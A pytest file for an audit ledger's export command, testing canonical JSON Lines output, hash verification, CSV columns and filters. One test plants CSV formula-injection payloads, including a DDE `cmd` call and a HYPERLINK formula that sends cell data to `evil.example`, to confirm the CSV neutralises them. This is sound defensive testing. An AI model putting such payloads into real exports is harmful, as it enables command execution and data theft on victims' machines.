"""`atmp ledger export`: RFC 8785 JSON Lines that contrib/atmp_verify.py accepts, CSV, and filters."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
import rfc8785
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from atmp.cli.main import main
from atmp.ledger import checkpoints, keys
from atmp.ledger.export import CSV_COLUMNS, FORMULA_STARTS, jsonl_line, original_cell, safe_cell
from atmp.ledger.models import AuditEntry
from atmp.ledger.selectors import ENTRY_COLUMNS
from atmp.ledger.tests.test_canonical import HEX64, columns_of, entries
from atmp.ledger.tests.test_verify import populate
from atmp.testing import make_site, make_user, rename_site

pytestmark = pytest.mark.django_db

CONTRIB_VERIFIER = Path(__file__).resolve().parents[4] / "contrib" / "atmp_verify.py"


def export(*args: str) -> str:
    """Run `atmp ledger export ARGS` in this process and return its stdout, asserting exit 0."""
    result = CliRunner().invoke(main, ["ledger", "export", *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def seqs_of(jsonl: str) -> list[int]:
    return [json.loads(line)["seq"] for line in jsonl.splitlines()]


# --- the line format ------------------------------------------------------------------------------


@settings(max_examples=150)
@given(entries(), HEX64)
def test_each_line_is_the_reference_serialisation_of_the_body_and_its_hash(body, hash_):
    assert jsonl_line((*columns_of(body), hash_)) == rfc8785.dumps(body | {"hash": hash_}) + b"\n"


def test_every_exported_line_is_canonical_and_hashes_to_its_hash(qa_reviewer, qa_approver):
    populate(qa_reviewer, qa_approver)
    lines = export().splitlines()
    assert len(lines) == AuditEntry.objects.count()
    for line in lines:
        entry = json.loads(line)
        assert rfc8785.dumps(entry) == line.encode()
        body = {k: v for k, v in entry.items() if k != "hash"}
        assert hashlib.sha256(rfc8785.dumps(body)).hexdigest() == entry["hash"]


def test_the_unfiltered_export_passes_the_independent_verifier(qa_reviewer, qa_approver, tmp_path):
    populate(qa_reviewer, qa_approver)
    out = tmp_path / "ledger.jsonl"
    result = CliRunner().invoke(main, ["ledger", "export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert f"{AuditEntry.objects.count()} entries written to {out}" in result.stderr
    checkpoints.export(tmp_path / "checkpoints")
    verified = subprocess.run(
        [sys.executable, str(CONTRIB_VERIFIER), str(out), "--checkpoints", str(tmp_path / "checkpoints"),
         "--vkey", keys.verifier_key(), "--json"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert verified.returncode == 0, verified.stdout + verified.stderr
    report = json.loads(verified.stdout)
    assert report["ok"] is True and report["entries"] == AuditEntry.objects.count()


def test_it_writes_the_file_whole_and_leaves_no_partial_file_behind(site, tmp_path):
    out = tmp_path / "ledger.csv"
    result = CliRunner().invoke(main, ["ledger", "export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ledger.csv"]
    assert len(out.read_text().splitlines()) == AuditEntry.objects.count() + 1


# --- CSV ------------------------------------------------------------------------------------------


def test_csv_has_the_documented_columns_and_every_stored_value(qa_reviewer, qa_approver):
    populate(qa_reviewer, qa_approver)
    rows = list(csv.reader(io.StringIO(export("--format", "csv"))))
    assert tuple(rows[0]) == CSV_COLUMNS == (
        "seq", "at", "actor_id", "actor_name", "actor_roles", "action", "record_type", "record_id",
        "record_version", "reason", "changes", "snapshot_hash", "prev_hash", "hash",
    )  # fmt: skip
    stored = AuditEntry.objects.order_by("seq").values_list(*ENTRY_COLUMNS)
    assert [[original_cell(c) for c in row] for row in rows[1:]] == [
        ["" if v is None else str(v) for v in row] for row in stored
    ]


def test_it_neutralises_formula_cells_in_the_csv_and_keeps_the_jsonl_exact(qa_reviewer):
    mallory = make_user("qa_reviewer", full_name="+cmd|' /C calc'!A0")
    site = make_site(actor=qa_reviewer, name="Leiden")
    rename_site(site, '=HYPERLINK("http://evil.example/?"&A1,"open")', actor=mallory, reason="@SUM(A1:A9)")
    rename_site(site, "Leiden", actor=qa_reviewer, reason="-1+1")
    rows = list(csv.reader(io.StringIO(export("--format", "csv"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or c.startswith("-1+")]
    assert "'@SUM(A1:A9)" in cells and "'+cmd|' /C calc'!A0" in cells and "'-1+1" in cells
    reasons = [json.loads(line)["reason"] for line in export().splitlines()]
    assert "@SUM(A1:A9)" in reasons and "-1+1" in reasons


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " "]), max_size=8))
def test_a_neutralised_cell_never_starts_a_formula_and_gives_back_its_value(value):
    cell = safe_cell(value)
    assert original_cell(cell) == value
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only a plain number may start with + or -


# --- filters --------------------------------------------------------------------------------------


def test_it_filters_by_record(qa_reviewer, qa_approver):
    history = populate(qa_reviewer, qa_approver)
    site = history.signed
    lines = export("--record-type", "accounts.site", "--record-id", str(site.pk)).splitlines()
    assert [json.loads(line)["action"] for line in lines] == ["create", "update", "update", "sign"]


def test_it_filters_by_actor_username_or_id(qa_reviewer, qa_approver):
    populate(qa_reviewer, qa_approver)
    by_name = export("--actor", "alex")
    assert by_name == export("--actor", str(qa_approver.pk))
    assert {json.loads(line)["actor"]["id"] for line in by_name.splitlines()} == {qa_approver.pk}


def test_it_filters_by_action_and_seq_range(qa_reviewer, qa_approver):
    populate(qa_reviewer, qa_approver)
    updates = AuditEntry.objects.filter(action="update").order_by("seq").values_list("seq", flat=True)
    assert seqs_of(export("--action", "update")) == list(updates)
    assert seqs_of(export("--from-seq", "3", "--to-seq", "6")) == [3, 4, 5, 6]


def test_it_filters_by_time(qa_reviewer, qa_approver):
    populate(qa_reviewer, qa_approver)
    times = list(AuditEntry.objects.order_by("seq").values_list("at", flat=True))
    # --since includes its time, --until excludes it (as in the trail page).
    assert seqs_of(export("--since", times[4], "--until", times[7])) == [5, 6, 7]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--actor", "nobody"], "--actor: there is no user named 'nobody'"),
        (["--since", "yesterday"], "--since: 'yesterday' is not a date or time"),
        (["--until", "2026-13-01"], "--until:"),
        (["--from-seq", "0"], "'--from-seq'"),
        (["--to-seq", "x"], "'--to-seq'"),
        (["--from-seq", "5", "--to-seq", "3"], "--from-seq 5 is after --to-seq 3"),
        (["--since", "2026-02-01", "--until", "2026-01-01"], "--since 2026-02-01 is not before --until"),
        (["--format", "xml"], "'--format'"),
    ],
)
def test_it_refuses_a_bad_filter_naming_the_option(args, message):
    result = CliRunner().invoke(main, ["ledger", "export", *args])
    assert result.exit_code == 2
    assert message in result.stderr
    assert result.stdout == ""
